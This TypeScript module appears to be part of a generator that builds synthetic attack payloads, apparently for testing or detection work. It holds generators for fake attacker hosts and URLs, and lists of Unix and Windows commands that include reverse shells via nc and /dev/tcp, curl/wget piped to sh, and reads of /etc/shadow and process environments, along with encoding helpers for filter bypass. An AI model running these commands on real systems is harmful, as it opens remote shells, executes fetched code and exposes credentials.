/**
 * The small vocabulary every attack family grammar draws from: choice, counts, optional parts, the
 * hosts an attacker points at, and the encodings filters are bypassed with. Written for this
 * project from the attack classes' public descriptions, not from any payload list.
 */
export type Random = () => number;

export function pick<T>(items: readonly T[], random: Random): T {
  return items[Math.floor(random() * items.length)];
}

export function int(random: Random, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

export function maybe(random: Random, p: number, text: string): string {
  return random() < p ? text : '';
}

const NAME_PARTS = ['evil', 'attacker', 'oast', 'collab', 'pwn', 'exfil', 'c2', 'rbnd', 'cb', 'x1', 'hook', 'probe', 'dnslog', 'xpl'];
const TLDS = ['com', 'net', 'org', 'io', 'xyz', 'tk', 'ru', 'cn', 'me', 'site', 'top', 'click'];

export function attackerHost(random: Random): string {
  return `${maybe(random, 0.3, `${pick(['a', 'x', 'cdn', 'dl', 'i', `${int(random, 1, 99)}`], random)}.`)}${pick(NAME_PARTS, random)}${maybe(random, 0.4, String(int(random, 1, 999)))}.${pick(TLDS, random)}`;
}

export function attackerIp(random: Random): string {
  return `${int(random, 11, 223)}.${int(random, 0, 255)}.${int(random, 0, 255)}.${int(random, 1, 254)}`;
}

export function attackerUrl(random: Random): string {
  return `${pick(['http', 'https'], random)}://${random() < 0.7 ? attackerHost(random) : attackerIp(random)}${maybe(random, 0.3, `:${pick(['8000', '8080', '4444', '1337', '9001'], random)}`)}/${pick(['', 'x', 's.sh', 'a.txt', 'p', 'm.js', 'x.ps1', 'shell'], random)}`;
}

/** A recon or payload command an attacker runs on Unix. */
export function unixCommand(random: Random): string {
  return pick(
    [
      'id', 'whoami', 'uname -a', 'hostname', 'cat /etc/passwd', 'cat /etc/shadow', 'ls -la /', 'ps aux', 'env', 'ifconfig', 'pwd',
      `sleep ${int(random, 2, 30)}`, `ping -c ${int(random, 1, 9)} ${attackerHost(random)}`, `nslookup ${attackerHost(random)}`,
      `curl ${attackerUrl(random)}`, `wget -qO- ${attackerUrl(random)}|sh`, `curl -s ${attackerUrl(random)} | bash`,
      `nc ${attackerIp(random)} ${int(random, 1024, 65535)} -e /bin/sh`, `bash -i >& /dev/tcp/${attackerIp(random)}/${int(random, 1024, 65535)} 0>&1`,
      `echo ${pick(['pwned', 'vuln', 'ok'], random)}`, `touch /tmp/${pick(['x', 'pwn', '.a'], random)}`, 'cat /proc/self/environ',
    ],
    random,
  );
}

/** A recon or payload command an attacker runs on Windows. */
export function windowsCommand(random: Random): string {
  return pick(
    ['whoami', 'whoami /all', 'ipconfig /all', 'systeminfo', 'net user', 'tasklist', 'dir c:\\', 'type c:\\windows\\win.ini', 'ver', 'hostname', `ping -n ${int(random, 2, 20)} ${attackerHost(random)}`, `nslookup ${attackerHost(random)}`, 'net localgroup administrators'],
    random,
  );
}

/** Percent-encodes the special characters (sometimes all), as a bypass or as a client would. */
export function percentEncode(text: string, random: Random, all = false): string {
  let out = '';
  for (const ch of text) {
    const c = ch.charCodeAt(0);
    if (c < 128 && (all || !/[A-Za-z0-9]/.test(ch)) && random() < 0.85) out += `%${c.toString(16).padStart(2, '0').toUpperCase()}`;
    else out += ch;
  }
  return out;
}

export function randomCase(text: string, random: Random): string {
  let out = '';
  for (const ch of text) out += random() < 0.5 ? ch.toUpperCase() : ch.toLowerCase();
  return out;
}

export function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

/** PowerShell's -EncodedCommand takes base64 of UTF-16LE. */
export function base64Utf16(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

export function hex(text: string): string {
  return Buffer.from(text, 'utf8').toString('hex');
}
